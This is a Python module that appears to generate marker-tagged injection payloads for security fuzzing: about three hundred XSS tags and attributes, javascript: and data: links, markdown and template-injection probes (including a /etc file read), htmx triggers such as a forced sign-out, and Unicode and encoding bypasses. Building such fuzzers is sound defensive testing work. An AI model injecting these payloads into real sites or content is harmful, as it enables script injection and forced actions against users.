"""What the hostile type: some three hundred pieces that become code wherever text is not treated as text.

Each holds the mark `zqxvk`, so that whatever came of it can be found again.
"""

import itertools
from collections.abc import Iterator

MARK = "zqxvk"
_CLOSE = (
    "",
    '"',
    "'",
    "`",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</option>",
    "</select>",
    "-->",
    "]]>",
    "</script>",
    "</svg>",
)
_TAGS = (
    "<zqxvk-tag>", "<img src=zqxvk onerror=zqxvk()>", "<svg onload=zqxvk()>", "<svg/onload=zqxvk()>", "<script>zqxvk()</script>",
    "<script src=//zqxvk.example></script>", "<iframe src=javascript:zqxvk()>", "<iframe srcdoc='<script>zqxvk()</script>'>",
    "<body onload=zqxvk()>", "<details open ontoggle=zqxvk()>", "<video><source onerror=zqxvk()>", "<audio src onerror=zqxvk()>",
    "<a href=javascript:zqxvk()>x</a>", "<a href=\"data:text/html,zqxvk\">x</a>", "<form action=//zqxvk.example><button>",
    "<button formaction=javascript:zqxvk()>x</button>", "<input autofocus onfocus=zqxvk()>", "<base href=//zqxvk.example>",
    "<meta http-equiv=refresh content='0;url=//zqxvk.example'>", "<link rel=stylesheet href=//zqxvk.example>",
    "<style>@import '//zqxvk.example'</style>", "<object data=javascript:zqxvk()>", "<embed src=//zqxvk.example>",
    "<math><mtext></p><img src onerror=zqxvk()>", "<template><zqxvk-t>", "<noscript><p title='</noscript><img src onerror=zqxvk()>'>",
    "<marquee onstart=zqxvk()>", "<dialog open onclose=zqxvk()>", "<portal src=//zqxvk.example>", "<isindex action=javascript:zqxvk()>",
    "<keygen onfocus=zqxvk()>", "<div style='background:url(//zqxvk.example)'>", "<p style=animation:zqxvk>", "<table background=//zqxvk>",
    "<div hx-get=/zqxvk hx-trigger=load>", "<div hx-post=/sign-out hx-trigger=load>zqxvk", "<div data-hx-get=/zqxvk data-hx-trigger=load>",
    "<div hx-on:load=zqxvk()>", "<div hx-on::after-request='zqxvk()'>", "<div data-hx-on-load=zqxvk()>", "<div hx-vals='js:{a:zqxvk()}'>",
    "<div hx-sse=/zqxvk>", "<div hx-headers='{\"zqxvk\":1}'>", "<hx-partial hx-target='#main'>zqxvk</hx-partial>", "<div hx-swap-oob=true id=main>zqxvk",
    "<svg><use href='//zqxvk.example#x'/></svg>", "<svg><animate onbegin=zqxvk() attributeName=x>", "<svg><a xlink:href=javascript:zqxvk()>",
    "<svg><foreignObject><zqxvk-f>", "<svg><script>zqxvk()</script></svg>", "<svg><set attributeName=href to=javascript:zqxvk()>",
)  # fmt: skip
_ATTRIBUTES = (
    " onmouseover=zqxvk() ", " autofocus onfocus=zqxvk() x=", " style=zqxvk ", " hx-get=/zqxvk ", " data-hx-get=/zqxvk ", " hx-on:click=zqxvk() ",
    " formaction=javascript:zqxvk() ", " src=//zqxvk.example ", " srcset=//zqxvk.example ", " href=javascript:zqxvk() ", " accesskey=x onclick=zqxvk() ",
    " zqxvk ", "/onload=zqxvk()/", "\tonpointerenter=zqxvk()\t", "\nonanimationend=zqxvk()\n",
)  # fmt: skip
_LINKS = (
    "javascript:zqxvk()", "JaVaScRiPt:zqxvk()", "java\tscript:zqxvk()", "java\nscript:zqxvk()", "\x01javascript:zqxvk()", " javascript:zqxvk()",
    "javascript&colon;zqxvk()", "&#106;avascript:zqxvk()", "vbscript:zqxvk", "data:text/html;base64,zqxvk", "//zqxvk.example", "\\\\zqxvk.example",
    "https://zqxvk.example", "feed:javascript:zqxvk()", "view-source:zqxvk", "blob:zqxvk",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:zqxvk())", "[x](JAVASCRIPT:zqxvk())", "[x](data:text/html,zqxvk)", "![x](//zqxvk.example)", "![x](x){onerror=zqxvk()}",
    "<javascript:zqxvk()>", "<https://zqxvk.example>", "[x]: javascript:zqxvk()\n[x]", "[x](page:zqxvk\"onclick=zqxvk())", "`<zqxvk>`",
    "```zqxvk\"><img src onerror=zqxvk()>\n```", "| <zqxvk-c> |\n|---|\n| x |", "[@zqxvk\"><img src onerror=zqxvk()>]", "[@S1|dated:<zqxvk-d>]",
    "# <zqxvk-h>", "> <zqxvk-q>", "- <zqxvk-l>", "**<zqxvk-b>**", "&lt;zqxvk-e&gt;", "&#60;zqxvk-n&#62;", "<!-- zqxvk -->", "<?zqxvk ?>", "<!DOCTYPE zqxvk>",
    "<![CDATA[<zqxvk-k>]]>", "[x](/zqxvk \"' onclick=zqxvk() '\")",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}zqxvk", "{{zqxvk}}", "{% raw %}zqxvk", "{% for x in zqxvk %}", "{# zqxvk #}", "${7*7}zqxvk", "#{7*7}zqxvk", "<%= 7*7 %>zqxvk", "{{config}}zqxvk",
    "{{''.__class__.__mro__}}zqxvk", "{{request.application}}zqxvk", "%(zqxvk)s", "%szqxvk", "%zqxvk", "{zqxvk}", "{0.zqxvk}", "{{{zqxvk}}}", "[[zqxvk]]",
    "#eval(\"zqxvk\")", "#read(\"/etc/zqxvk\")", "#import \"zqxvk\"", "$zqxvk^2$", "*zqxvk*", "_zqxvk_", "`zqxvk`", "@zqxvk", "<zqxvk>", "= zqxvk", "\\u{7a}zqxvk", "//zqxvk",
)  # fmt: skip
_UNICODE = (
    "\uff1czqxvk\uff1e", "\u2039zqxvk\u203a", "\u00abzqxvk\u00bb", "\u202ezqxvk\u202c", "\u200bzqxvk\u200b", "\ufeffzqxvk", "\u2028zqxvk\u2029", "z\u0308qx<zqxvk-u>",
    "\U0001f642<zqxvk-m>", "\u0130zqxvk", "\u212azqxvk", "\ufb03zqxvk", "<\u200bzqxvk>", "<zqxvk\u00ad>", "\x85zqxvk", "\xa0zqxvk", "＜script＞zqxvk＜/script＞",
    "%3Czqxvk%3E", "%253Czqxvk%253E", "+ADw-zqxvk+AD4-", "\\x3czqxvk\\x3e", "\\u003czqxvk\\u003e",
)  # fmt: skip

CORE = (
    "\"'><img src=zqxvk onerror=zqxvk()>",
    "</script><zqxvk-s>",
    "' onfocus=zqxvk() x='",
    '" hx-get="/zqxvk',
    "javascript:zqxvk()",
    "<!--zqxvk",
)
ALL = tuple(
    dict.fromkeys(
        [
            *(close + tag for close, tag in zip(itertools.cycle(_CLOSE), _TAGS, strict=False)),
            *(close + tag for close, tag in zip(itertools.cycle(_CLOSE[4:]), _TAGS, strict=False)),
            *(quote + attribute + quote for quote in ('"', "'", "`", "") for attribute in _ATTRIBUTES),
            *_LINKS, *_MARKDOWN, *_TEMPLATES, *_UNICODE,
        ]
    )
)  # fmt: skip
AT_ONCE = 40


def mouthfuls(at_once: int = AT_ONCE) -> Iterator[str]:
    """Texts of so many pieces each, one after the other; each begins with the ones that break out most often."""
    chunks = [ALL[start : start + at_once] for start in range(0, len(ALL), at_once)]
    return itertools.cycle(" ".join((*CORE, *chunk)) for chunk in chunks)
